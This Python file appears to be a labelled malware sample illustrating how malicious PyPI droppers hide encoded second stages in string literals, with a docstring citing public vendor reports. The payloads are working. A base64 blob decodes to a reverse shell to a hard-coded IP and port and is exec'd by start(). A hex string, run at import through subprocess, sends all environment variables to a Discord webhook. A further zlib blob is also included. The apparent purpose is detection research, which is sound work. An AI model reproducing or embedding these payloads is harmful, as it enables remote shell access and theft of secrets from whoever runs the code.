# ruff: noqa
"""Encoded payloads in literals: how droppers carry their second stage.

Techniques from public write-ups: base64 blobs decoded and exec'd (GuardDog's
``exec-base64`` heuristic; Phylum and Checkmarx reports on the W4SP stealer
campaign, 2022), hex-encoded stealers run with ``python -c`` (Sonatype,
"PyPI malware uses hex-encoded payloads", 2023), zlib-compressed base64 stages
(ReversingLabs, "Malicious PyPI packages hide in compressed blobs", 2023).
"""
import base64
import binascii
import subprocess
import zlib

_STAGE = (  # attack: MB365
    'aW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcyA9IHNvY2tldC5zb2NrZXQoKQpzLmNvbm5l'
    'Y3QoKCI0NS42MS4xMzkuNyIsIDQ0NDQpKQpmb3IgZmQgaW4gKDAsIDEsIDIpOgogICAgb3MuZHVw'
    'MihzLmZpbGVubygpLCBmZCkKc3VicHJvY2Vzcy5jYWxsKFsiL2Jpbi9zaCIsICItaSJdKQppbXBv'
    'cnQgb3MsIHNvY2tldCwgc3VicHJvY2VzcwpzID0gc29ja2V0LnNvY2tldCgpCnMuY29ubmVjdCgo'
    'IjQ1LjYxLjEzOS43IiwgNDQ0NCkpCmZvciBmZCBpbiAoMCwgMSwgMik6CiAgICBvcy5kdXAyKHMu'
    'ZmlsZW5vKCksIGZkKQpzdWJwcm9jZXNzLmNhbGwoWyIvYmluL3NoIiwgIi1pIl0pCmltcG9ydCBv'
    'cywgc29ja2V0LCBzdWJwcm9jZXNzCnMgPSBzb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiNDUu'
    'NjEuMTM5LjciLCA0NDQ0KSkKZm9yIGZkIGluICgwLCAxLCAyKToKICAgIG9zLmR1cDIocy5maWxl'
    'bm8oKSwgZmQpCnN1YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCAiLWkiXSkKaW1wb3J0IG9zLCBz'
    'b2NrZXQsIHN1YnByb2Nlc3MKcyA9IHNvY2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCI0NS42MS4x'
    'MzkuNyIsIDQ0NDQpKQpmb3IgZmQgaW4gKDAsIDEsIDIpOgogICAgb3MuZHVwMihzLmZpbGVubygp'
    'LCBmZCkKc3VicHJvY2Vzcy5jYWxsKFsiL2Jpbi9zaCIsICItaSJdKQppbXBvcnQgb3MsIHNvY2tl'
    'dCwgc3VicHJvY2VzcwpzID0gc29ja2V0LnNvY2tldCgpCnMuY29ubmVjdCgoIjQ1LjYxLjEzOS43'
    'IiwgNDQ0NCkpCmZvciBmZCBpbiAoMCwgMSwgMik6CiAgICBvcy5kdXAyKHMuZmlsZW5vKCksIGZk'
    'KQpzdWJwcm9jZXNzLmNhbGwoWyIvYmluL3NoIiwgIi1pIl0pCmltcG9ydCBvcywgc29ja2V0LCBz'
    'dWJwcm9jZXNzCnMgPSBzb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiNDUuNjEuMTM5LjciLCA0'
    'NDQ0KSkKZm9yIGZkIGluICgwLCAxLCAyKToKICAgIG9zLmR1cDIocy5maWxlbm8oKSwgZmQpCnN1'
    'YnByb2Nlc3MuY2FsbChbIi9iaW4vc2giLCAiLWkiXSkKaW1wb3J0IG9zLCBzb2NrZXQsIHN1YnBy'
    'b2Nlc3MKcyA9IHNvY2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCI0NS42MS4xMzkuNyIsIDQ0NDQp'
    'KQpmb3IgZmQgaW4gKDAsIDEsIDIpOgogICAgb3MuZHVwMihzLmZpbGVubygpLCBmZCkKc3VicHJv'
    'Y2Vzcy5jYWxsKFsiL2Jpbi9zaCIsICItaSJdKQppbXBvcnQgb3MsIHNvY2tldCwgc3VicHJvY2Vz'
    'cwpzID0gc29ja2V0LnNvY2tldCgpCnMuY29ubmVjdCgoIjQ1LjYxLjEzOS43IiwgNDQ0NCkpCmZv'
    'ciBmZCBpbiAoMCwgMSwgMik6CiAgICBvcy5kdXAyKHMuZmlsZW5vKCksIGZkKQpzdWJwcm9jZXNz'
    'LmNhbGwoWyIvYmluL3NoIiwgIi1pIl0pCmltcG9ydCBvcywgc29ja2V0LCBzdWJwcm9jZXNzCnMg'
    'PSBzb2NrZXQuc29ja2V0KCkKcy5jb25uZWN0KCgiNDUuNjEuMTM5LjciLCA0NDQ0KSkKZm9yIGZk'
    'IGluICgwLCAxLCAyKToKICAgIG9zLmR1cDIocy5maWxlbm8oKSwgZmQpCnN1YnByb2Nlc3MuY2Fs'
    'bChbIi9iaW4vc2giLCAiLWkiXSkKaW1wb3J0IG9zLCBzb2NrZXQsIHN1YnByb2Nlc3MKcyA9IHNv'
    'Y2tldC5zb2NrZXQoKQpzLmNvbm5lY3QoKCI0NS42MS4xMzkuNyIsIDQ0NDQpKQpmb3IgZmQgaW4g'
    'KDAsIDEsIDIpOgogICAgb3MuZHVwMihzLmZpbGVubygpLCBmZCkKc3VicHJvY2Vzcy5jYWxsKFsi'
    'L2Jpbi9zaCIsICItaSJdKQo='
)


def start():
    exec(base64.b64decode(_STAGE))


_HEX = '696d706f7274206f732c206a736f6e2c2075726c6c69622e726571756573740a64617461203d206a736f6e2e64756d70732864696374286f732e656e7669726f6e29292e656e636f646528290a75726c6c69622e726571756573742e75726c6f70656e282268747470733a2f2f646973636f72642e636f6d2f6170692f776562686f6f6b732f313039332f416243644566222c2064617461290a666f72206e616d6520696e2028224368726f6d65222c202245646765222c2022427261766522293a0a202020207072696e74286e616d65290a'  # attack: MB365
subprocess.Popen(["python", "-c", binascii.unhexlify(_HEX).decode()])

_PACKED = (  # attack: MB365
    'eJxVkUGOnDAURPc+BeoVSK0G29+AR8oiGc1B6IZJkwyYAO1cP1V/FzYUAupRj3nZ0n4W6bgWv460'
    'XovX/vU132/79Oc1HacZh3Movum92/hatqMc58dZpuM2rXne01pVSI80TmVl/n/3hsu0TWt5eZ7n'
    'drzV9Tgfj7SPt0da6mGb67/T/ZnS76O2TfT19/v7+PF5uRZkVuYz7cU6LFMxr0V5eX/uaZlw8/Ix'
    '/tTzj33I06V6MwWObZ/Xs+TjlckNPrgx2eIUBcEh9L032TO41mRB6NpocmCwzuQWoQ3B5A4hxN7k'
    'nkGsyRFBekEhi8V1SOz2HSEs9xbllu0uoN2y3kbUW/ZbQb8loEe/JcCh3xIQWyYSogXKNfoUWI6E'
    'LoLlSOh0BwkthzgSWi5xJAROcSQEbnFECMc4MjzXODI85/hGPwAMT4bjHk+G5R5PhuUeL9qMQESM'
    'TERED5jv1ClgvlepgPmoVgGTRrUCJla9AiZOxQImXs0CJqJqAZOgavlryPAcJJ2qBUN6VQuGRFUL'
    'RmhULRiBDO4JRHBO8KqWSVQtWCGoWrBCq2rBCiR03BN6VQtWiKo2mH8lzbu6'
)
